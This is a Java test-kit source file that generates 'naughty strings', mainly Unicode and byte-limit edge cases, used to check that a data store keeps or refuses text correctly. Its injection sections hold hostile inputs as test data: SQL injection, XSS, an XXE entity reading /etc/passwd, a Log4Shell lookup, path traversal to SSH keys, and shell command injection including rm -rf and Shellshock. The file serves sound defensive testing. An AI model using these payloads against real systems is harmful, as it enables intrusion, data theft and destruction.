package io.casekit.store.tck;

import io.casekit.core.Utf8;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.stream.IntStream;

/**
 * The kit's own hostile strings: every kind of text a store is known to break on, made in code so
 * that the kit needs no file to run its full contract. They cover the hazards of the Big List of
 * Naughty Strings and those casekit's rules make matter (UTF-8 byte limits, exact storage without
 * normalisation, TAB/LF/CR in descriptions, LIKE wildcards). Each string carries its hazard and a
 * name, which becomes the name of its test.
 *
 * <p>{@link #stored()} are strings the case rules accept in at least one text field, so a store
 * must keep them byte for byte; {@link #refused()} are strings the rules refuse (U+0000, lone
 * surrogates, control characters), which must be refused with nothing stored. Both lists are new,
 * immutable and the same on every call; building them takes a few milliseconds.
 */
final class GeneratedNaughtyStrings {

    /** The UTF-8 byte limits of casekit's text fields (domain rules §2 and §5, seed and our decision). */
    static final int TITLE_MAX_BYTES = 128;
    static final int DESCRIPTION_MAX_BYTES = 20_000;
    static final int ATTACHMENT_MAX_BYTES = 2_000;
    /** The default limit of a TEXT extension field. */
    static final int TEXT_MAX_BYTES = 255;
    /** The default limit of a TEXTAREA extension field. */
    static final int TEXTAREA_MAX_BYTES = 32_000;
    /** The largest limit a template may give a text field. */
    static final int LONGEST_FIELD_BYTES = 1_048_576;

    /** Every limit, each of which gets strings of exactly that many bytes and one byte more. */
    static final List<Integer> BYTE_LIMITS = List.of(TITLE_MAX_BYTES, TEXT_MAX_BYTES, ATTACHMENT_MAX_BYTES,
            DESCRIPTION_MAX_BYTES, TEXTAREA_MAX_BYTES, LONGEST_FIELD_BYTES);

    /** A kind of text that stores, drivers or databases are known to damage. */
    enum Hazard {
        UTF8_2_BYTES("2-byte UTF-8"),
        UTF8_3_BYTES("3-byte UTF-8"),
        UTF8_4_BYTES("4-byte UTF-8"),
        EMOJI("emoji, surrogate pairs, ZWJ sequences and flags"),
        COMBINING_MARKS("combining marks and Zalgo"),
        BIDI("right-to-left text and bidi controls"),
        INVISIBLE("zero-width and invisible format characters"),
        WHITE_SPACE("Unicode white space"),
        NORMALISATION("NFC and NFD forms, stored as given"),
        FULL_WIDTH("full-width and half-width forms"),
        LOOK_ALIKES("look-alikes and case folding"),
        SPECIAL_CODE_POINTS("noncharacters, private use, BOM and specials"),
        RESERVED_WORDS("reserved words and numbers as text"),
        SQL_INJECTION("SQL injection"),
        SCRIPT_INJECTION("script and markup injection"),
        FORMAT_STRINGS("format strings and template expressions"),
        PATHS("paths and file names"),
        SHELL_INJECTION("shell injection"),
        JSON_LIKE("JSON-like text"),
        QUOTES_AND_BACKSLASHES("quotes and backslashes"),
        LIKE_WILDCARDS("SQL LIKE wildcards"),
        LINE_BREAKS("TAB, LF and CR"),
        BYTE_LIMITS("exact UTF-8 byte limits"),
        LONG_TEXTS("very long texts");

        /** How the hazard is named in a test's name. */
        final String label;

        Hazard(String label) {
            this.label = label;
        }
    }

    /** A string a store must keep byte for byte, with its hazard and a readable name. */
    record NaughtyString(Hazard hazard, String name, String text) {
        /** The name of its test: the hazard, the name and the UTF-8 size. */
        String displayName() {
            return "[" + hazard.label + "] " + name + " (" + Utf8.encodedLength(text) + " bytes)";
        }

        /** The display name: the text itself can be a megabyte. */
        @Override
        public String toString() {
            return displayName();
        }
    }

    /** Where the case rules refuse a string. */
    enum RefusedIn {
        /** Every text field, the attachment included: U+0000 and lone surrogates. */
        EVERY_FIELD,
        /** Every field but the attachment: control characters other than TAB, LF and CR. */
        ALL_BUT_ATTACHMENT,
        /** Single-line fields only (title, TEXT): TAB, LF and CR. */
        SINGLE_LINE_FIELDS
    }

    /** A string the case rules refuse in the fields {@code refusedIn} names, with a readable name. */
    record RefusedString(String name, String text, RefusedIn refusedIn) {}

    private GeneratedNaughtyStrings() {}

    /** Every string a store must keep, grouped by hazard in {@link Hazard} order. */
    static List<NaughtyString> stored() {
        Builder b = new Builder();

        b.hazard(Hazard.UTF8_2_BYTES)
                .add("Latin-1 and Latin Extended letters", "Ærøskøbing Ñandú Łódź façade")
                .add("Greek, Cyrillic, Armenian", "Ωμέγα Кириллица Հայերեն")
                .add("first and last printable 2-byte characters U+00A1 and U+07FF", "\u00A1 \u07FF")
                .add("only 2-byte characters", "éééééééééé");

        b.hazard(Hazard.UTF8_3_BYTES)
                .add("Chinese, Japanese, Korean", "中文 日本語 한국어 ｶﾀｶﾅ")
                .add("first 3-byte character U+0800 and last BMP character before surrogates U+D7FF", "\u0800 \uD7FF")
                .add("first character after the surrogates U+E000 and U+FFFD", "\uE000 \uFFFD")
                .add("Devanagari and Thai with vowel signs", "हिन्दी ไทย")
                .add("euro, ellipsis, per mille, arrows", "€…‰→⇒∑∞");

        b.hazard(Hazard.UTF8_4_BYTES)
                .add("first and last code points above the BMP, U+10000 and U+10FFFF", "\uD800\uDC00 \uDBFF\uDFFF")
                .add("mathematical alphanumerics", "𝐀𝐁𝐂 𝕏𝕐ℤ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢")
                .add("CJK Extension B and Gothic", "𠀀𠜎𠮷 𐌰𐌱𐌲")
                .add("only 4-byte characters", "😀😁😂🤣😃😄😅😆😉😊");

        b.hazard(Hazard.EMOJI)
                .add("plain emoji", "😀 🔥 🚒 💩")
                .add("ZWJ family sequence", "👩\u200D👩\u200D👧\u200D👦")
                .add("ZWJ profession with skin tone", "👩🏽\u200D🚒 🧑🏿\u200D💻")
                .add("flags of regional indicators", "🇩🇪 🇯🇵 🇺🇳")
                .add("subdivision flag of tag characters", "🏴\uDB40\uDC67\uDB40\uDC62\uDB40\uDC65\uDB40\uDC6E\uDB40\uDC67\uDB40\uDC7F")
                .add("keycaps and variation selectors", "1\uFE0F\u20E3 #\uFE0F\u20E3 ❤\uFE0F ❤\uFE0E")
                .add("skin tone modifiers alone and after a base", "👍🏽 🏿 👋🏻");

        b.hazard(Hazard.COMBINING_MARKS)
                .add("e with a combining acute", "e\u0301")
                .add("Zalgo", "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇")
                .add("combining mark at the start", "\u0301starts with a combining mark")
                .add("100 combining marks on one letter",
                        "a" + IntStream.range(0, 100).mapToObj(i -> String.valueOf((char) (0x0300 + i % 0x70)))
                                .reduce("", String::concat))
                .add("combining enclosing circle and keycap", "a\u20DD b\u20E3");

        b.hazard(Hazard.BIDI)
                .add("Arabic and Hebrew", "العربية עברית")
                .add("right-to-left override", "right-to-left \u202Eevil\u202C text")
                .add("isolates, marks and the Arabic letter mark", "\u2066isolate\u2069 \u2067rtl\u2069 \u200Fmark\u200E \u061C")
                .add("Trojan Source comment", "access = \"user\u202E \u2066// Check if admin\u2069 \u2066\"")
                .add("embedding without its closing pop", "\u202Bembedding not popped");

        b.hazard(Hazard.INVISIBLE)
                .add("zero-width space, non-joiner and joiner", "zero\u200Bwidth\u200Cnon\u200Djoiner")
                .add("word joiner and soft hyphen", "word\u2060joiner soft\u00ADhyphen")
                .add("byte order mark at the start", "\uFEFFstarts with a byte order mark")
                .add("byte order mark at the end", "ends with a byte order mark\uFEFF")
                .add("Mongolian vowel separator and invisible operators", "a\u180Eb \u2061\u2062\u2063\u2064")
                .add("only invisible characters", "\u200B\u200C\u200D\u2060\uFEFF")
                .add("interlinear annotation characters", "\uFFF9base\uFFFAruby\uFFFB");

        StringBuilder everySpace = new StringBuilder("a");
        for (int cp : new int[] {0x0020, 0x00A0, 0x1680, 0x2000, 0x2001, 0x2002, 0x2003, 0x2004, 0x2005,
                0x2006, 0x2007, 0x2008, 0x2009, 0x200A, 0x2028, 0x2029, 0x202F, 0x205F, 0x3000}) {
            everySpace.appendCodePoint(cp).append('a');
        }
        b.hazard(Hazard.WHITE_SPACE)
                .add("every non-control Unicode white space between letters", everySpace.toString())
                .add("leading and trailing spaces", "  leading and trailing spaces  ")
                .add("leading no-break and trailing ideographic space", "\u00A0padded\u3000")
                .add("line and paragraph separators", "line\u2028and paragraph\u2029separators")
                .add("next line U+0085", "next\u0085line")
                .add("a single space", " ")
                .add("only Unicode white space", "\u00A0\u2003\u3000\u202F")
                .add("only spaces", "     ");

        b.hazard(Hazard.NORMALISATION)
                .add("NFD é (e and U+0301)", "caf\u0065\u0301")
                .add("NFC é (U+00E9)", "caf\u00E9")
                .add("NFD Hangul jamo", "\u1112\u1161\u11AB\u1100\u1173\u11AF")
                .add("NFC Hangul syllables", "\uD55C\uAE00")
                .add("Angstrom and Ohm signs (NFC singletons)", "\u212B \u2126 \u212A")
                .add("compatibility ligature and superscript (NFKC would change)", "\uFB01le x\u00B2 \u2460")
                .add("combining marks out of canonical order", "a\u0323\u0301 a\u0301\u0323");

        b.hazard(Hazard.FULL_WIDTH)
                .add("full-width Latin and digits", "ＡＢＣ１２３ ＳＥＬＥＣＴ")
                .add("full-width markup and quotes", "＜ｓｃｒｉｐｔ＞ ＇ ＂ ＼")
                .add("half-width katakana", "ｶﾀｶﾅ ﾊﾝｶｸ");

        b.hazard(Hazard.LOOK_ALIKES)
                .add("Cyrillic letters in a Latin word", "p\u0430yp\u0430l.com")
                .add("Greek omicron and Latin o", "g\u03BFogle google")
                .add("letters case folding changes", "İı ß ẞ ΣΑΣ ς ﬁ Ⅻ ǅ")
                .add("digits of other scripts", "٠١٢٣ ०१२३ ０１２３")
                .add("mathematical bold admin", "𝐚𝐝𝐦𝐢𝐧");

        b.hazard(Hazard.SPECIAL_CODE_POINTS)
                .add("noncharacters U+FFFE and U+FFFF", "\uFFFE \uFFFF")
                .add("noncharacters U+FDD0 to U+FDEF", "\uFDD0\uFDEF")
                .add("private use in the BMP and plane 15", "\uE000 \uF8FF \uDB80\uDC00")
                .add("replacement and object replacement characters", "\uFFFD \uFFFC")
                .add("unassigned code points and the noncharacter U+1FFFF", "\u0378 \u0379 \uD83F\uDFFF");

        b.hazard(Hazard.RESERVED_WORDS)
                .add("null words", "null")
                .add("NULL", "NULL")
                .add("undefined and NaN", "undefined NaN")
                .add("true and false", "true")
                .add("numbers as text", "-0 0.0 1E+309 Infinity 0x1F 007")
                .add("object words", "[object Object] None nil");

        b.hazard(Hazard.SQL_INJECTION)
                .add("drop table", "'; DROP TABLE cases; --")
                .add("Bobby Tables", "Robert'); DELETE FROM history; --")
                .add("always true", "1' OR '1'='1")
                .add("union select", "' UNION SELECT NULL, version() --")
                .add("comment and stacked query", "admin'/* */; UPDATE cases SET title='x' WHERE ''='")
                .add("PostgreSQL escape string and dollar quoting", "E'\\x27' $$ $tag$ ::text")
                .add("MySQL comment and backtick", "`title` # comment\\' /*!50000 SELECT */")
                .add("named and positional parameters", "? :name :1 $1 @p0");

        b.hazard(Hazard.SCRIPT_INJECTION)
                .add("script tag", "<script>alert('x')</script>")
                .add("event handler", "<img src=x onerror=alert(1)>")
                .add("javascript URL", "javascript:alert(document.cookie)")
                .add("CDATA and comment ends", "]]> --> <!--")
                .add("XML entity", "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>&xxe;")
                .add("HTML entities as text", "&lt; &amp;amp; &#0; &#x1F600;");

        b.hazard(Hazard.FORMAT_STRINGS)
                .add("printf conversions", "%s %n %x %d %% %1$s %-10s")
                .add("MessageFormat and SLF4J placeholders", "{0} {} {{}} '{'")
                .add("template expressions", "${7*7} #{7*7} {{7*7}} <%= 7*7 %> @{x}")
                .add("Log4Shell lookup", "${jndi:ldap://example.invalid/a}")
                .add("escape sequences as text", "\\n \\t \\r \\0 \\x00 \\u0000 \\U0001F600");

        b.hazard(Hazard.PATHS)
                .add("Unix traversal", "../../../../etc/passwd")
                .add("Windows traversal", "..\\..\\windows\\system32\\config")
                .add("Windows device names", "CON PRN AUX NUL COM1 LPT1")
                .add("file URL and UNC path", "file:///etc/passwd \\\\server\\share")
                .add("home and dot segments", "~/.ssh/id_rsa ./a/./b/../c");

        b.hazard(Hazard.SHELL_INJECTION)
                .add("command substitution", "$(touch /tmp/casekit-fail) `id`")
                .add("command chaining", "; rm -rf /tmp/casekit-none # && echo x | cat || true")
                .add("Shellshock", "() { :;}; echo vulnerable")
                .add("redirection and globbing", "> /dev/null 2>&1 * ? [a-z] {a,b}");

        b.hazard(Hazard.JSON_LIKE)
                .add("a JSON object", "{\"json\": [1, \"two\"], \"n\": null}")
                .add("a JSON array and scalars", "[] {} \"\" 0 false")
                .add("an unterminated JSON string", "\"unterminated")
                .add("closing brackets", "\"}]}]}")
                .add("JSON escapes as text", "\\\"escaped\\\" \\u0041 \\/");

        b.hazard(Hazard.QUOTES_AND_BACKSLASHES)
                .add("every kind of quote", "\"double\" 'single' `back` ‘curly’ “quotes” „low“ «guillemets» ‹›")
                .add("backslashes", "\\ \\\\ \\\\\\")
                .add("ends with a backslash", "trailing backslash\\")
                .add("a single quote", "'")
                .add("two single quotes", "''")
                .add("a double quote", "\"");

        b.hazard(Hazard.LIKE_WILDCARDS)
                .add("percent", "%")
                .add("underscore", "_")
                .add("wildcards in a word", "100% a_b%c")
                .add("escaped wildcards", "\\% \\_ %% __")
                .add("SQL Server bracket class", "[a-z]% [^x] ESCAPE '!'");

        b.hazard(Hazard.LINE_BREAKS)
                .add("CRLF, LF, CR and TAB", "CRLF\r\nLF\nCR\rTAB\t")
                .add("leading and trailing line breaks", "\n\nsurrounded by line breaks\r\n")
                .add("a lone CR", "before\rafter")
                .add("tabs as indentation", "\t\tindented\t")
                .add("only line breaks", "\r\n\n\r\t");

        b.hazard(Hazard.BYTE_LIMITS);
        for (int limit : BYTE_LIMITS) {
            String bytes = String.format(Locale.ROOT, "%,d", limit);
            if (limit % 4 == 0) {
                b.add(bytes + " bytes of 4-byte characters", "😀".repeat(limit / 4));
            } else {
                b.add(bytes + " bytes of 4-byte characters and a shorter last one",
                        "😀".repeat(limit / 4) + ending(limit % 4));
            }
            b.add(bytes + " bytes ending on a 2-byte character", "a".repeat(limit - 2) + "é");
            b.add(bytes + " bytes ending on a 3-byte character", "a".repeat(limit - 3) + "中");
            b.add(bytes + " bytes ending on a 4-byte character", "a".repeat(limit - 4) + "😀");
            b.add(bytes + " bytes of every width", Texts.ofUtf8Bytes(limit, "limit "));
            b.add("one byte over " + bytes + ": a 4-byte character across the limit", "a".repeat(limit - 3) + "😀");
        }

        b.hazard(Hazard.LONG_TEXTS)
                .add("10,000 combining marks on one letter", "a" + "\u0301".repeat(10_000))
                .add("100,000 bytes in one line without a space", "x".repeat(100_000))
                .add("a long text of every width and line breaks", Texts.ofUtf8Bytes(500_000, "long "))
                .add("ZWJ sequences over 256 KiB", "👩\u200D🚒".repeat(262_144 / 11 + 1));

        return b.build();
    }

    /** A text of exactly {@code bytes} (1 to 3) UTF-8 bytes: one character of that width. */
    private static String ending(int bytes) {
        return switch (bytes) {
            case 1 -> "a";
            case 2 -> "é";
            case 3 -> "中";
            default -> throw new IllegalArgumentException(String.valueOf(bytes));
        };
    }

    /**
     * Strings the case rules refuse, each in the fields {@link RefusedString#refusedIn()} names:
     * U+0000 and lone surrogates everywhere; control characters but TAB, LF and CR everywhere but
     * the attachment; TAB, LF and CR in single-line fields.
     */
    static List<RefusedString> refused() {
        List<RefusedString> refused = new ArrayList<>(List.of(
                new RefusedString("U+0000 alone", "\u0000", RefusedIn.EVERY_FIELD),
                new RefusedString("U+0000 inside a word", "before\u0000after", RefusedIn.EVERY_FIELD),
                new RefusedString("U+0000 after an emoji", "😀\u0000", RefusedIn.EVERY_FIELD),
                new RefusedString("a lone high surrogate", "\uD800", RefusedIn.EVERY_FIELD),
                new RefusedString("a lone low surrogate inside text", "lone \uDC00 low", RefusedIn.EVERY_FIELD),
                new RefusedString("a high surrogate at the end", "ends high \uDBFF", RefusedIn.EVERY_FIELD),
                new RefusedString("a surrogate pair reversed", "\uDE00\uD83D", RefusedIn.EVERY_FIELD),
                new RefusedString("ANSI terminal escape", "\u001B[31mred\u001B[0m", RefusedIn.ALL_BUT_ATTACHMENT),
                new RefusedString("bell and backspace", "ring\u0007\u0008", RefusedIn.ALL_BUT_ATTACHMENT),
                new RefusedString("vertical tab and form feed", "a\u000Bb\u000Cc", RefusedIn.ALL_BUT_ATTACHMENT),
                new RefusedString("DEL", "delete\u007F", RefusedIn.ALL_BUT_ATTACHMENT),
                new RefusedString("U+0001 and U+001F", "\u0001start end\u001F", RefusedIn.ALL_BUT_ATTACHMENT),
                new RefusedString("a TAB in one line", "tab\there", RefusedIn.SINGLE_LINE_FIELDS),
                new RefusedString("a LF in one line", "line\nbreak", RefusedIn.SINGLE_LINE_FIELDS),
                new RefusedString("a CR in one line", "carriage\rreturn", RefusedIn.SINGLE_LINE_FIELDS)));
        return List.copyOf(refused);
    }

    /** Collects the strings of one hazard after another. */
    private static final class Builder {
        private final List<NaughtyString> strings = new ArrayList<>();
        private Hazard hazard = Hazard.UTF8_2_BYTES;

        Builder hazard(Hazard next) {
            hazard = next;
            return this;
        }

        Builder add(String name, String text) {
            strings.add(new NaughtyString(hazard, name, text));
            return this;
        }

        List<NaughtyString> build() {
            return List.copyOf(strings);
        }
    }
}
